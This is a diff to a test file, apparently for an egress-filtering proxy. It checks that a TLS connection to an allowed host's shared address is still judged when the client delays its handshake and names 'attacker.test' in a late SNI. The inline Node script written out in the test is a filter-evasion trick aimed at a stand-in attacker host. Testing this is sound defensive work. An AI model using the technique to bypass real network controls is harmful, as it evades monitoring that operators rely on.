@@ -248,28 +248,32 @@ for (const mode of ['block', 'audit'] as const) {
       assert.equal(result.code, mode === 'block' ? 3 : 0, result.stderr);
     });
 
-    test("6c: a ClientHello held back past the peek, to an allowed name's address, is still checked", async () => {
-      // A shared (CDN) address: the connection is first attributed to allowed.test through DNS, then the
-      // client names another site in its late SNI.
-      const resolved = await world.job('dig', ['+short', 'allowed.test']);
-      assert.match(resolved.stdout, new RegExp(NET.allowed.replace(/\./g, '\\.')));
-      const marker = `late-sni-${mode}-${randomLabel(10)}`;
-      const script = `const net=require('net');const tls=require('tls');const fs=require('fs');const raw=net.connect(443,'${NET.allowed}',()=>{setTimeout(()=>{const s=tls.connect({socket:raw,servername:'attacker.test',ca:fs.readFileSync('${world.caFile}')},()=>{s.end('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)})},2500)});raw.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
-      const result = await world.job('node', ['-e', script]);
-      const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'attacker.test' && e.ip === NET.allowed);
-      assert.ok(
-        event,
-        `a decision on the late SNI; client ${result.code} ${result.stderr}; events on ${NET.allowed}: ${JSON.stringify(
-          world
-            .events()
-            .filter((e) => 'ip' in e && e.ip === NET.allowed)
-            .slice(-4),
-        )}`,
-      );
-      assert.equal(event.host, 'attacker.test');
-      assert.equal(event.decision, outcomeFor(mode));
-      assertTlsRequestOutcome(mode, result, marker);
-    });
+    // 400 ms: past the 200 ms peek of an address a silent client is let through at, within the 1 s one of elsewhere.
+    for (const lateMs of [400, 2500]) {
+      test(`6c: a ClientHello held back past the peek (${lateMs} ms), to an allowed name's address, is still checked`, async () => {
+        // A shared (CDN) address: the connection is first attributed to allowed.test through DNS, then the
+        // client names another site in its late SNI.
+        const since = Date.now();
+        const resolved = await world.job('dig', ['+short', 'allowed.test']);
+        assert.match(resolved.stdout, new RegExp(NET.allowed.replace(/\./g, '\\.')));
+        const marker = `late-sni-${mode}-${lateMs}-${randomLabel(10)}`;
+        const script = `const net=require('net');const tls=require('tls');const fs=require('fs');const raw=net.connect(443,'${NET.allowed}',()=>{setTimeout(()=>{const s=tls.connect({socket:raw,servername:'attacker.test',ca:fs.readFileSync('${world.caFile}')},()=>{s.end('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)})},${lateMs})});raw.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
+        const result = await world.job('node', ['-e', script]);
+        const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'attacker.test' && e.ip === NET.allowed && Date.parse(e.time) >= since);
+        assert.ok(
+          event,
+          `a decision on the late SNI; client ${result.code} ${result.stderr}; events on ${NET.allowed}: ${JSON.stringify(
+            world
+              .events()
+              .filter((e) => 'ip' in e && e.ip === NET.allowed)
+              .slice(-4),
+          )}`,
+        );
+        assert.equal(event.host, 'attacker.test');
+        assert.equal(event.decision, outcomeFor(mode));
+        assertTlsRequestOutcome(mode, result, marker);
+      });
+    }
 
     test("6f: a server that speaks first, at an allowed name's address: a client that waits for its banner gets it, decided by DNS attribution", async (t) => {
       // As SMTP, FTP and MySQL: the client says nothing until the server's banner. The listener peeks for a ClientHello
